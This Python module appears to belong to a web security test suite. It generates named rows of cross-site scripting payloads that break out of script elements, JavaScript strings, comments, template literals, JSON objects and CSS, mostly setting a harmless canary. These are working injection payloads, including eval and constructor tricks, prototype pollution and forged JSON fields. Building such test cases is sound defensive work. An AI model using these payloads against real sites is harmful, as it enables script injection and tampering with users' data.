r"""Out of a script element, and out of a string, a comment or a template literal of JavaScript."""

from __future__ import annotations

from support.tricks.payloads import IMG, RUN, Rows

__all__ = ["SCRIPT_DATA_STATES", "STRING_BREAKOUTS"]

# What may follow the name of an end tag. All but the last two end the script; those are text to it.
_AFTER = {
    "close": ">",
    "blank-close": " >",
    "tab-close": "\t>",
    "line-feeds-close": "\n\n>",
    "slash-close": "/>",
    "slashes-close": "//>",
    "quoted-close": ' x=">">',
    "quoted-single-close": " x='>'>",
    "unquoted-close": " x=y/>",
    "equals-close": " =>",
    "less-than": "<>",
    "letter": "x>",
}

# How the parser gets into a state where the next end tag ends nothing, or looks as if it did.
_ESCAPED = {
    "slash": "<!--<script/",
    "line-feed": "<!--<script\n",
    "tab": "<!--<script\tx",
    "upper": "<!--<SCRIPT>",
    "attributes": "<!--<script src=x>",
    "longer-name": "<!--<scripts>",  # not the name
    "dashes": "<!----<script>",
    "closed": "<!--><script>",  # that comment is over
    "closed-dash": "<!---><script>",
    "closed-bang": "<!--x--!><script>",  # and this one is not
    "one-dash": "<!-<script>",  # and this one is none
    "twice": "<!--<script><script>",
    "ended-dash": "<!--<script></script-",
    "ended-slash": "<!--<script></script/",
    "ended-again": "<!--<script></script><script>",
}

# What one value leaves open, the next may close: the parser sees the two with the page's own text between.
_HALVES = ("</", "</s", "</scrip", "ipt>", "<!", "<!-", "<!--<", "<!--<scr", "script>", "/script>", "!--<script>", "->")

# JavaScript has HTML's comments as well: <!-- anywhere, --> only where a line begins.
_COMMENTS = {
    "open-code": f"<!-- {RUN}",
    "open-line": f"<!--\n{RUN}",
    "open-line-separator": f"<!--\u2028{RUN}",
    "end-blank": f"x\n  --> x\n{RUN}",
    "end-after-block": f"*/--> x\n{RUN}",
    "end-line-separator": f"\u2028--> x\u2029{RUN}",
    "end-star": f"\n/**/--> {RUN}",
}

# Elements that are scripts in their own way.
_ELEMENTS = {
    "src-data": f"<script src=data:text/javascript,{RUN}></script>",
    "module": f"<script type=module>{RUN}</script>",
    "nomodule": f"<script nomodule>{RUN}</script>",
    "language": f"<script language=vbscript type=text/javascript>{RUN}</script>",
    "type-blank": f"<script type=''>{RUN}</script>",
    "unclosed": f"<script>{RUN}//",
    "unclosed-tag": f"<script x={RUN} ",
    "importmap": '<script type=importmap>{"imports":{"x":"data:text/javascript,window.canary=1"}}</script>',
    "rules": '<script type=speculationrules>{"prefetch":[{"urls":["https://example.com/"]}]}</script>',
    "json": '<script type=application/json>{"x":"</script>' + IMG + '"}',
    "for-event": f"<script for=window event=onload>{RUN}</script>",
    "xhtml": f"//]]></script><script>//<![CDATA[\n{RUN}",
}

SCRIPT_DATA_STATES: Rows = (
    *((f"script-end-tag-{name}", f"</script{after}{IMG}") for name, after in _AFTER.items()),
    *((f"script-mixed-case-{name}", f"</sCrIpT{after}{IMG}") for name, after in list(_AFTER.items())[:4]),
    *((f"script-state-{name}", opened) for name, opened in _ESCAPED.items()),
    *((f"script-state-{name}-then-end", f"{opened}</script>{IMG}") for name, opened in _ESCAPED.items()),
    *((f"script-half-{place}", half) for place, half in enumerate(_HALVES, 1)),
    *((f"script-comment-{name}", value) for name, value in _COMMENTS.items()),
    *((f"script-element-{name}", value) for name, value in _ELEMENTS.items()),
)

_QUOTES = {"double": '"', "single": "'", "backtick": "`"}

# Where the string stood: what has to be closed before code can begin, and what makes the rest of it harmless.
_CONTEXTS = {
    "assignment": ";{run};//",
    "call": ");{run};//",
    "array": "]);{run};//",
    "nested": "}}}}));{run};//",
    "function": ")}};{run};{{({quote}",
    "line": "\n;{run}//",
    "comment": ";{run}/*",
    "html-comment": ";{run}<!--",
    "times": "*({run})*{quote}",
    "ternary": "?1:({run})+{quote}",
    "in": " in[{run}]in {quote}",
    "or": "||({run})||{quote}",
    "index": "[{run}]+{quote}",
    "tagged": ".at`${{{run}}}`+{quote}",
    "statement": ";{run};+{quote}",
}

# How a character is spelled for who decodes a string once too often.
_SPELLINGS = {
    "x": "\\x{:02x}",
    "u": "\\u{:04x}",
    "u-brace": "\\u{{{:x}}}",
    "u-brace-zeros": "\\u{{00000{:x}}}",
    "octal": "\\{:o}",
    "double-u": "\\\\u{:04x}",
    "css": "\\{:06x}",
}
_SPELLED = {
    "double-quote": ('"', f"}});{RUN}//"),
    "single-quote": ("'", f"}});{RUN}//"),
    "backtick": ("`", f"}});{RUN}//"),
    "less-than": ("<", f"img src=x onerror={RUN}>"),
    "backslash": ("\\", f'"}});{RUN}//'),
    "line-feed": ("\n", f"{RUN}//"),
    "dollar": ("$", f"{{{RUN}}}"),
}

# Comments end where lines end, and JavaScript has four ways to end a line.
_LINES = {"line-feed": "\n", "carriage-returns": "\r\r", "line-separator": "\u2028", "paragraph-separator": "\u2029"}

_LITERALS = {
    "dollar": "$",
    "opened": "${",
    "closed": f"}}`;{RUN};`",
    "rest": f"{{{RUN}}}",  # behind a dollar of another value
    "escaped": f"\\${{{RUN}}}",
    "escaped-twice": f"\\\\${{{RUN}}}",
    "escaped-brace": f"$\\{{{RUN}}}",
    "comment": f"${{{RUN}/*",
    "line": f"${{{RUN}//\n}}",
    "object": "${{x:window.canary=1}}",
    "sequence": f"${{({RUN},'')}}",
    "tagged": "${Function`window.canary=1```}",
    "unicode": "${\\u0077indow.canary=1}",
    "html": "${document.body.innerHTML='<img src=x onerror=window.canary=1>'}",
    "bad-escape": "\\u{110000}`",
}

# Where a value stands as code, or is handed to something that runs text.
_CODE = {
    "statement": RUN,
    "brackets": "window['canary']=1",
    "template-key": "window[`canary`]=1",
    "self": "self.canary=1",
    "global-this": "globalThis.canary=1",
    "top": "top.canary=1",
    "escaped-name": "\\u0077indow.canary=1",
    "eval": "eval('window.canary=1')",
    "eval-indirect": "(0,eval)('window.canary=1')",
    "function": "Function('window.canary=1')()",
    "function-tagged": "Function`window.canary=1```",
    "timeout": "setTimeout('window.canary=1')",
    "constructor": "[].constructor.constructor('window.canary=1')()",
    "generator": "(function*(){}).constructor('window.canary=1')().next()",
    "async": "(async()=>window.canary=1)()",
    "reflect": "Reflect.construct(Function,['window.canary=1'])()",
    "throw": "throw onerror=eval,'=window.canary=1'",
    "import": "import('data:text/javascript,window.canary=1')",
    "location": "location='javascript:window.canary=1'",
    "with": "with(window)canary=1",
    "label": "x:window.canary=1",
    "getter": "get x(){window.canary=1}",
    "computed": "[window.canary=1]:1",
    "spread": "...[window.canary=1]",
    "to-string": "{toString(){window.canary=1}}",
    "has-instance": "'window\\x2ecanary=1'instanceof{[Symbol.hasInstance]:eval}",
    "replace": "'window.canary=1'.replace(/.+/,eval)",
    "regular-expression": "/x/;window.canary=1;/x/",
    "regular-expression-class": "/[/]/+(window.canary=1)//",
    "hashbang": "#!\nwindow.canary=1",
    "directive": "use strict';window.canary=1;'",
}

# One more key or one more call in an object that stays well formed.
_KEYS = {
    "value": f'":({RUN}),"',  # where it is a key itself
    "value-single": f"':({RUN}),'",
    "permission": '","marketing_permission":true,"x":"',
    "call": '"}),api.customer({"email":"john.doe@example.com',
    "object": '"},{"email":"john.doe@example.com',
    "getter": f'",get x(){{{RUN}}},"y":"',
    "computed": f'",[{RUN}]:"',
    "spread": f'",...{{x:{RUN}}},"y":"',
    "proto": '","__proto__":{"canary":1},"x":"',
    "comment": '",/*',
    "single": "','email':'john.doe@example.com",
}

# A style sheet's strings and rules, which end as scripts do.
_STYLES = {
    "rule": "}body{background:url(javascript:window.canary=1)}",
    "import": "';@import 'https://example.com/x.css';'",
    "expression": "x:expression(window.canary=1)",
    "binding": "-moz-binding:url(https://example.com/x.xml)",
    "comment": "*/*{display:block}/*",
    "declaration": ";display:block!important;",
    "url": ");display:block;x:url(",
    "selector": "],.nosto_customer{display:block}[x",
    "escape": "\\000022;}*{display:block}",
    "line": "\\\n}*{display:block}",
    "attribute": "[value^='a']{background:url(https://example.com/a)}",
}

# Code of characters that are written as they are, so that it runs wherever one other character alone gets through:
# the recorder of the browser's tests knows `ran`. The statement around a value ends in two braces' worth of brackets.
_PLAIN = {
    "block-comment": "*/ran();/*",
    "template-literal": "`;ran();//",
    "line-feed": "Jane\nran();//",
    "line-separator": "Jane\u2028ran();//",
    "paragraph-separator": "Jane\u2029ran();//",
    "double-quote": '"}));ran();//',
    "single-quote": "'}));ran();//",
    "backslash-quote": '\\"}));ran();//',
    "percent": "%22%7D));ran();//",
    "entity": "&quot;&#125;));ran();//",
    "script-data": "<!--<script>ran()",
    "substitution": "${ran()}",
    "vue": "{{ran()}}",
    "angular-brackets": "[[ran()]]",
}

STRING_BREAKOUTS: Rows = (
    *((f"plain-{name}", value) for name, value in _PLAIN.items()),
    *(
        (f"string-{name}-{context}", quote + rest.format(run=RUN, quote=quote))
        for name, quote in _QUOTES.items()
        for context, rest in _CONTEXTS.items()
    ),
    # Who escapes quotes and not backslashes turns an odd number of them into none.
    *(
        (f"string-{name}-after-{count}-backslashes", "\\" * count + f"{quote}}});{RUN}//")
        for name, quote in _QUOTES.items()
        for count in range(1, 4)
    ),
    *(
        (f"string-spelled-{spelling}-{name}", form.format(ord(character)) + rest)
        for name, (character, rest) in _SPELLED.items()
        for spelling, form in _SPELLINGS.items()
    ),
    *((f"string-comment-{name}", f"Jane{end}{RUN}//") for name, end in _LINES.items()),
    *((f"string-continued-{name}", f"Jane\\{end}{RUN}//") for name, end in _LINES.items()),
    *((f"string-literal-{name}", value) for name, value in _LITERALS.items()),
    *((f"code-{name}", value) for name, value in _CODE.items()),
    *((f"string-key-{name}", value) for name, value in _KEYS.items()),
    *((f"css-{name}", value) for name, value in _STYLES.items()),
)
